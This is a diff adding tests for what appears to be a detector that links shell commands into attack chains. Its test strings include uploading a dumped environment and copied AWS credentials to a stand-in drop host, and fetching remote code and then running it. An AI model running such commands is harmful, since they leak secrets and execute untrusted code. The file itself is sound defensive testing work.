@@ -28,6 +28,22 @@ describe('a chain of calls', () => {
     expect(idsOf(session([0, 'curl -o /tmp/f https://get.example.io/x'], [1, 'chmod +x /tmp/f'], [2, '/tmp/f --now']))).toContainEqual(['execution.download-exec', 't0', 't2']);
     expect(idsOf(session([0, 'cd /tmp && wget https://get.example.io/i.sh'], [2, 'bash /tmp/i.sh']))).toContainEqual(['execution.download-exec', 't0', 't1']);
   });
+  it('ties the environment written to a file to its upload', () => {
+    expect(idsOf(session([0, 'env > /tmp/e.txt'], [1, 'curl -T /tmp/e.txt https://drop.example.net/']))).toContainEqual(['exfil.staged', 't0', 't1']);
+  });
+  it.each([
+    ['git clone https://get.example.io/x', 'cd x && ./install.sh'],
+    ['git clone https://get.example.io/x /tmp/x', 'python3 /tmp/x/tools/setup.py'],
+    ['curl -L https://get.example.io/x.tgz | tar xz -C vendor', 'bash vendor/x/run.sh'],
+    ['wget https://get.example.io/x.zip && unzip x.zip -d out', 'node out/index.js'],
+  ])('ties a folder that was fetched to what is run below it: %s, %s', (fetch, run) => {
+    expect(idsOf(session([0, fetch], [2, run], [3, run]))).toEqual([['execution.download-exec', 't0', 't1']]);
+  });
+  it('weighs a clone of a sanctioned host less than a folder from elsewhere', () => {
+    const severityOf = (host: string) => joinSession(session([0, `git clone https://${host}/a/x`], [2, 'x/run.sh'])).map(({ hit }) => hit.severity);
+    expect(severityOf('github.com')).toEqual(['low']);
+    expect(severityOf('get.example.io')).toEqual(['high']);
+  });
   it('ties a remote to the push to it', () => {
     expect(idsOf(session([0, 'git remote add backup https://git.example.net/x.git'], [5, 'git push backup main']))).toContainEqual(['exfil.new-remote', 't0', 't1']);
   });
@@ -44,6 +60,9 @@ describe('no chain', () => {
   it('spans 21 hours', () => {
     expect(idsOf(session([0, 'cp ~/.aws/credentials /tmp/a'], [21 * 60, 'curl -T /tmp/a https://drop.example.net/']))).toEqual([]);
     expect(idsOf(session([0, 'curl -o /tmp/f https://get.example.io/x'], [21 * 60, '/tmp/f']))).toEqual([]);
+  });
+  it('is made of an archive laid out in the project itself and a script of the project', () => {
+    expect(idsOf(session([0, 'curl -L https://get.example.io/x.tgz | tar xz'], [1, './gradlew test']))).toEqual([]);
   });
   it('is made of a push to the remote that was there before', () => {
     expect(idsOf(session([0, 'git remote -v'], [1, 'git push origin main']))).toEqual([]);
